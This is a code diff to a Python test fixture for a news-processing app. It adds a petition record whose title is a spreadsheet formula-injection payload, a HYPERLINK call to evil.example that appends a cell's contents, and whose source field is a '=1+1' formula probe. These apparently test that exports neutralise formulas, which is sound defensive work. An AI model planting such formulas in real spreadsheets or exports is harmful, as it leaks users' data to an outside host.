@@ -22,10 +22,10 @@ from app.pipeline import make_tools
 from app.processing import process
 from app.progress import Silent
 from app.settings import UnderstandSettings
-from store import articles, stories
+from store import articles, petitions, stories
 from store.database import open_store
 from store.errors import InputError, UsageError
-from store.model import Article
+from store.model import Article, Count
 
 DAY = datetime(2026, 5, 4, 9, tzinfo=UTC)
 EVIL = '=HYPERLINK("https://evil.example/?"&A1,"open")'
@@ -47,6 +47,14 @@ def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
             other = "Nurses returned 84 badges at the hospital, a spokeswoman said."
             second = Article("a000000000002", "https://ward.example/2", "Badges", other, published=later, outlet="Ward")
             articles.save(conn, replace(second, published_basis="meta"), now=later)
+            told = {
+                "title": EVIL,
+                "url": "https://sign.example/1",
+                "source": "=1+1",
+                "first_seen": DAY,
+                "last_seen": DAY,
+            }
+            petitions.save(conn, Count(1_623, "1,623", "text", "1,623 have signed", 2_500, **told))
         process(
             store,
             make_tools(UnderstandSettings(embedder="hash", tone_model="vader"), ()),
